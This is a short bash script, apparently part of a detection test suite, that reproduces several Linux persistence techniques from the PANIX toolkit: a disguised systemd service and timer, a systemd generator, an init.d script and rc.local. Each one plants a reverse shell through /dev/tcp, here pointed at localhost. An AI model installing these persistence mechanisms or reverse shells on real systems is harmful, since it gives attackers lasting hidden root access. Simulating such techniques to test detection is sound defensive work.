# PANIX's modules systemd, generator, initd and rc-local, after their descriptions. Run as root out of alice's login.
# shellcheck shell=bash

local_units=/usr/local/lib/systemd/system

step suite.panix-service
mkdir -p $local_units
cat >$local_units/dbus-org.freedesktop.suite.service <<'UNIT'
[Unit]
Description=Suite of the network name resolution
[Service]
Type=simple
ExecStart=/usr/bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
Restart=always
RestartSec=600
[Install]
WantedBy=default.target
UNIT
step suite.panix-timer
cat >$local_units/dbus-org.freedesktop.suite.timer <<'UNIT'
[Timer]
OnCalendar=*:*:00
Persistent=true
[Install]
WantedBy=timers.target
UNIT
step suite.panix-enable
systemctl daemon-reload
systemctl enable --now dbus-org.freedesktop.suite.timer

# A generator that makes a unit where units come before the distribution's, and enables it, at the next reload.
step suite.panix-generator
mkdir -p /usr/lib/systemd/system-generators
cat >/usr/lib/systemd/system-generators/suite-makecon <<'SCRIPT'
#!/bin/sh
mkdir -p /run/systemd/system/multi-user.target.wants
cat >/run/systemd/system/suite-makecon.service <<'UNIT'
[Service]
ExecStart=/usr/bin/setsid /bin/bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
UNIT
ln -sf /run/systemd/system/suite-makecon.service /run/systemd/system/multi-user.target.wants/suite-makecon.service
SCRIPT
step suite.panix-generator-executable
chmod +x /usr/lib/systemd/system-generators/suite-makecon
step suite.panix-generated
systemctl daemon-reload
step suite.panix-generator-end
rm /usr/lib/systemd/system-generators/suite-makecon

step suite.panix-init
cat >/etc/init.d/suite-procps <<'SCRIPT'
#! /bin/sh
### BEGIN INIT INFO
# Provides:             suite-procps
# Required-Start:       $remote_fs $syslog
# Required-Stop:        $remote_fs $syslog
# Default-Start:        2 3 4 5
# Default-Stop:
### END INIT INFO
case $1 in
start) setsid nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' >/dev/null 2>&1 & ;;
esac
SCRIPT
chmod +x /etc/init.d/suite-procps
step suite.panix-init-enable
update-rc.d suite-procps defaults

step suite.panix-rc-local
printf '#!/bin/bash\nsetsid nohup bash -c "bash -i >& /dev/tcp/127.0.0.1/9 0>&1" &\nexit 0\n' >/etc/rc.local
chmod +x /etc/rc.local
